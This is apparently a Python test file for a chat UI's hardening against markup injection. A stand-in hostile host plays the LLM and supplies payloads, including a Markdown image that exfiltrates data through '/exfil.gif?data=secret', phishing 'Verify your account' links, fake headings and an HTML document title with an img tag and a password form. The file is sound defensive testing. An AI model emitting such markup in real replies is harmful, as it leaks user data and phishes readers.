"""Issue #14, what an outsider broke in the chat UI, replayed against a real server and a real Chromium.

Every attack text points at a foreign host on loopback (``HostileHost``) that records each request it gets:
markup from a model, a document title or a question must never make the browser fetch from it, show a link
to it or render a heading. The same host plays the hostile LLM. The corpus is a copy of the small fixture
corpus plus a PDF, a .txt, a renamed .md and a document whose title is an HTML payload.
"""

from __future__ import annotations

import json
import shutil

import pytest

from journalqa.config import Settings
from journalqa.index.build import sync_index
from tests.conftest import FIXTURE_CORPUS
from tests.pdfs import write_text_pdf
from tests.servers import ROOT, ask_in_chat, chromium_page, hostile_host, ui_server

pytestmark = pytest.mark.slow

ARTIFACTS = ROOT / "tests" / "artifacts"
TAPI = "Who coordinates the construction of the TAPI gas pipeline?"
ADB_SENTENCE = "The Asian Development Bank acts as the lead coordinator of the TAPI construction project."
PDF_TITLE = "Northern corridors review"
TXT_TITLE = "Notes on the Anjoman pass"
TXT_SENTENCE = "The Anjoman pass was closed by snow for four months in the winter of 2021."
RENAMED_SENTENCE = "The Wakhjir pass is open to herders only from July to September."
WAKHAN = "How long is the Wakhan corridor?"


@pytest.fixture(scope="module")
def hostile():
    with hostile_host() as host:
        yield host


@pytest.fixture(scope="module")
def lab(tmp_path_factory, embedder, hostile):
    """A corpus with every document type, indexed; the hostile-title document's file is then deleted,
    as happens when a document is removed from the corpus but a page still shows its passage."""
    base = tmp_path_factory.mktemp("hardening")
    settings = Settings(index_dir=base / "index", corpus_dir=base / "corpus")
    shutil.copytree(FIXTURE_CORPUS, settings.corpus_dir)
    write_text_pdf(settings.corpus_dir / "corridors.pdf", title=PDF_TITLE)
    (settings.corpus_dir / "anjoman.txt").write_text(
        f"{TXT_TITLE}\n\n{TXT_SENTENCE} Traders used the Salang route instead.\n", encoding="utf-8"
    )
    # a renamed Markdown file: its doc_id (front matter) is not its file name
    front = json.dumps({"doc_id": "wakhjir-pass", "title": "The Wakhjir pass"})
    (settings.corpus_dir / "notes-2023.md").write_text(f"---\n{front}\n---\n\n{RENAMED_SENTENCE}\n", encoding="utf-8")
    payload = (
        f'Wakhan <img src="{hostile.link("/toast.gif")}"><a href="{hostile.link("/toast-phish")}">Verify</a>'
        '<form><input type="password" name="pw"></form>'
    )
    front = json.dumps({"doc_id": "wakhan", "title": payload})
    (settings.corpus_dir / "wakhan.md").write_text(
        f"---\n{front}\n---\n\nThe Wakhan corridor is about 350 kilometres long and borders China.\n", encoding="utf-8"
    )
    sync_index(settings, embedder, show_progress=False)
    (settings.corpus_dir / "wakhan.md").unlink()
    return settings, base


@pytest.fixture(scope="module")
def server(lab, hostile):
    settings, base = lab
    env = {"JOURNALQA_LLM_BASE_URL": hostile.link("/v1"), "JOURNALQA_FEEDBACK_DB": str(base / "fb.sqlite3")}
    log = base / "server.log"
    with ui_server(settings.index_dir, settings.corpus_dir, log, env) as url:
        yield url, log


@pytest.fixture()
def page(server):
    with chromium_page(server[0], "#jq-question textarea") as tab:
        yield tab


def _ask(page, question: str) -> None:
    ask_in_chat(page, question, settle_ms=800)  # time for any request the rendered markup would make


def _foreign_links(page, host: str) -> list[str]:
    return page.eval_on_selector_all(
        "a[href]", "(links, host) => links.map(a => a.href).filter(h => h.startsWith(host))", host
    )


def _choose_llm_mode(page) -> None:
    page.get_by_text("Search options").click()
    page.get_by_label("Written by a language model").check()  # the mode "llm", in words for staff (issue #31)


def test_llm_reply_markdown_is_shown_as_text(page, hostile):
    hostile.reply = (
        f"{ADB_SENTENCE} [1]\n\n"
        f"![x]({hostile.link('/exfil.gif?data=secret')})\n\n"
        f"[Verify your account]({hostile.link('/phish')})\n\n"
        "# Account suspended\n\n"
        f'<img src="{hostile.link("/raw.gif")}">'
    )
    hostile.hits.clear()
    _choose_llm_mode(page)
    _ask(page, TAPI)
    assert hostile.hits == []  # no image fetched from the foreign host
    bubble = page.locator("#jq-chat .jq-answer").last
    text = bubble.inner_text()
    assert "Verify your account" in text and "Account suspended" in text  # the model's text, as text
    assert f"![x]({hostile.link('/exfil.gif?data=secret')})" in text
    assert page.locator("#jq-chat img, #jq-chat h1, #jq-chat h2, #jq-chat h3").count() == 0
    assert _foreign_links(page, hostile.url) == []
    assert hostile.hits == []
    # the app's own marker still links to its source card
    assert bubble.locator("a.jq-cite").first.get_attribute("href") == "#a0-src-1"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "ui-hardening-llm.png"), full_page=True)


def test_question_markdown_is_shown_as_text(page, hostile):
    hostile.hits.clear()
    question = (
        f"Who coordinates the TAPI pipeline? ![q]({hostile.link('/question.gif')}) "
        f"[Verify your account]({hostile.link('/question-phish')})"
    )
    _ask(page, question)
    assert hostile.hits == []
    asked = page.locator("#jq-chat .message", has_text="Verify your account").first
    assert f"![q]({hostile.link('/question.gif')})" in asked.inner_text()
    assert page.locator("#jq-chat img").count() == 0
    assert _foreign_links(page, hostile.url) == []
    assert hostile.hits == []


@pytest.mark.parametrize(
    ("question", "title", "sentence"),
    [
        ("Which bank supported the railway from Hairatan to Mazar-i-Sharif?", PDF_TITLE, "Asian Development Bank"),
        ("How long was the Anjoman pass closed by snow?", TXT_TITLE, TXT_SENTENCE),
        ("When is the Wakhjir pass open to herders?", "The Wakhjir pass", RENAMED_SENTENCE),
    ],
    ids=["pdf", "txt", "renamed-md"],
)
def test_read_in_the_article_for_every_document_type(page, question, title, sentence):
    _ask(page, question)
    card = page.locator("#jq-evidence .jq-card", has_text=title).first
    card.locator("button.jq-open").click()
    page.wait_for_selector("#jq-reader #jq-passage", timeout=20_000)
    assert title in page.locator("#jq-reader .jq-doc-title").inner_text()
    assert sentence in page.locator("#jq-reader #jq-passage").inner_text()
    assert page.locator("[data-testid='toast-body']").count() == 0


def test_a_missing_article_is_a_plain_notice(page, hostile, lab):
    settings, _ = lab
    hostile.hits.clear()
    _ask(page, WAKHAN)
    card = page.locator("#jq-evidence .jq-card", has_text="Wakhan").first
    assert "<img" in card.locator(".jq-title").inner_text()  # the title is shown as the text it is
    card.locator("button.jq-open").click()
    toast = page.locator("[data-testid='toast-body']").first
    toast.wait_for(timeout=20_000)
    page.wait_for_timeout(800)
    assert "not available" in toast.inner_text()
    assert toast.locator("img, a, form, input").count() == 0
    assert page.locator("input[type=password]").count() == 0
    assert str(settings.corpus_dir) not in toast.inner_text()
    assert _foreign_links(page, hostile.url) == []
    assert hostile.hits == []


def test_an_unreadable_new_index_version_leaves_the_loaded_one_answering(page, server, lab):
    # Since issue #29 a served assistant prepares a new index version in the background and swaps it in only once
    # it loads: a version whose files are gone is never swapped in, the staff keep their answers, and the reason
    # goes to the server log only (no path, version name or errno on the page).
    import time

    settings, _ = lab
    current = settings.index_dir / "CURRENT"
    saved = current.read_text(encoding="utf-8")
    current.write_text("v-20261201-gone", encoding="utf-8")  # a version whose files are not there
    try:
        ask_in_chat(page, TAPI)
        shown = page.locator("#jq-chat").inner_text() + " ".join(
            page.locator("[data-testid='toast-body']").all_inner_texts()
        )
        deadline = time.monotonic() + 30
        while "new index version not loaded" not in server[1].read_text() and time.monotonic() < deadline:
            time.sleep(0.5)
    finally:
        current.write_text(saved, encoding="utf-8")
    assert "Asian Development Bank" in shown
    assert str(settings.index_dir) not in shown and "v-20261201-gone" not in shown and "Errno" not in shown
    assert "new index version not loaded" in server[1].read_text()  # the reason is in the server log
